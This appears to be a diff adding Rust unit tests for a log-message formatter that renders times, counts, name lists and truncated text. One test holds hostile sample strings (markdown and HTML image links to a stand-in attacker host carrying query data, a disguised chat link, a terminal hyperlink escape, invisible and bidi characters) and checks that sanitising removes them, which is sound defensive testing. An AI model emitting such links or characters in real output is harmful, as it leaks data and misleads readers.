@@ -1,0 +1,77 @@
+use super::*;
+
+const DAY: i64 = 86_400_000_000_000;
+/// 2026-11-23 14:05:09 UTC.
+const AT: i64 = 1_795_442_709_000_000_000;
+
+#[test]
+fn an_instant_of_today_has_no_date_and_another_day_has_one() {
+    assert_eq!(when(AT, AT + 60_000_000_000), "14:05:09 UTC");
+    assert_eq!(when(AT - DAY, AT), "2026-11-22 14:05:09 UTC");
+}
+
+#[test]
+fn counts_are_grouped_and_expectations_read_as_words() {
+    assert_eq!(count(1_234_567), "1,234,567");
+    assert_eq!(counted(1, "error"), "1 error");
+    assert_eq!(counted(412, "error"), "412 errors");
+    assert_eq!(usual(0.0), "none");
+    assert_eq!(usual(0.4), "fewer than 1");
+    assert_eq!(usual(2.7), "about 3");
+    assert_eq!(lift(412, 3.0).as_deref(), Some("137 times as many"));
+    assert_eq!(lift(4, 3.0), None);
+    assert_eq!(lift(4, 0.0), None);
+    assert_eq!(percent(1, 1_000), "under 1 %");
+    assert_eq!(percent(999, 1_000), "over 99 %");
+    assert_eq!(percent(3, 10), "30 %");
+}
+
+#[test]
+fn names_are_listed_up_to_a_limit() {
+    let names: Vec<String> = ["a", "b", "c", "d"].map(str::to_owned).to_vec();
+    assert_eq!(list(&names[..1], 3), "a");
+    assert_eq!(list(&names[..2], 3), "a and b");
+    assert_eq!(list(&names, 3), "a, b, c and 1 more");
+}
+
+#[test]
+fn log_text_cannot_smuggle_links_or_invisible_characters() {
+    let hostile = [
+        "![x](https://collect.attacker.invalid/p.png?d=1)",
+        "![ok](//collect.attacker.invalid/a.png)",
+        "<img src=\"HTTPS://collect.attacker.invalid/?u=1\">",
+        "<https://attacker.invalid|https://status.acme.example>",
+        "\u{1b}]8;;http://attacker.invalid\u{1b}\\click",
+        "www.attacker.invalid",
+    ];
+    for text in hostile {
+        let shown = quoted(text);
+        assert!(!shown.contains("attacker.invalid"), "{shown}");
+        assert!(!shown.contains('\u{1b}'), "{shown}");
+    }
+    assert_eq!(plain("a\u{200b}b\u{e0041}c\u{fe0f}\u{202e}d", 50), "abcd");
+    assert_eq!(plain("two\n\n\tlines  here", 50), "two lines here");
+    assert_eq!(
+        plain("connect to <ip>:<num> refused", 50),
+        "connect to <ip>:<num> refused"
+    );
+}
+
+#[test]
+fn a_long_text_is_cut_to_its_limit_and_marked() {
+    let shown = plain(&"word ".repeat(100), 40);
+    assert!(shown.chars().count() <= 40, "{shown}");
+    assert!(shown.ends_with('…'));
+    // A link that begins before the cut does not survive it.
+    let late = format!("{}https://attacker.invalid/path", "x".repeat(30));
+    assert!(
+        !plain(&late, 45).contains("attacker"),
+        "{}",
+        plain(&late, 45)
+    );
+}
+
+#[test]
+fn a_path_with_a_double_slash_costs_only_itself() {
+    assert_eq!(plain("open /var//log failed", 50), "open /var<url> failed");
+}
